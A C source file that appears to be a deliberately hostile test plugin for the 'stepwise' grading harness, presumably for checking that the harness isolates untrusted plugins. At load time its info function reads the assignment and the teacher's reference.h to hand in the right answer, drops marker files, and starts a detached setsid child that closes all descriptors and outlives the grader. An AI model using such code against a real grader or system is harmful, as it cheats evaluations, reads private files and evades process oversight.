/* Evil inside sw_plugin_info(), which stepwise calls while loading (in its
 * probe, and again in each run): reads the assignment and the teacher's
 * home, drops marker files, starts a setsid child (named as an attack)
 * that stays until 120 s after the grader exits. Reading anything makes
 * the plugin hand in the right answer. */
#define EVIL_FAMILY "info-evil"
#define EVIL_CUSTOM_INFO
#include "evil.h"

static void evil_attack(void) {}

static const sw_plugin info = {
    .abi = SW_PLUGIN_ABI, .name = "evil-" EVIL_FAMILY, .label = "hostile: " EVIL_FAMILY,
    .order = 1, .evals = 1, .work_vectors = 5, .step = evil_step,
};

const sw_plugin *sw_plugin_info(void);
const sw_plugin *sw_plugin_info(void)
{
    static int done;
    if (done++)
        return &info;
    static evil_grader g;
    static char buf[4096];
    if (evil_grader_info(&g) == 0 && evil_read_file(g.assignment, buf, sizeof buf) > 0 &&
        strstr(buf, "# stepwise"))
        evil_cheat = 1;
    if (evil_read_file(EVIL_HOME "/reference.h", buf, sizeof buf) > 0)
        evil_cheat = 1;
    evil_mark("info", NULL);
    pid_t p = fork();
    if (p == 0) {
        setsid();
        pid_t grader = evil_top_target();
        if (fork() == 0) {
            evil_name();
            for (int fd = 0; fd < 1024; fd++)
                close(fd);
            evil_linger(grader);
        }
        _exit(0);
    }
    if (p > 0)
        waitpid(p, NULL, 0);
    return &info;
}
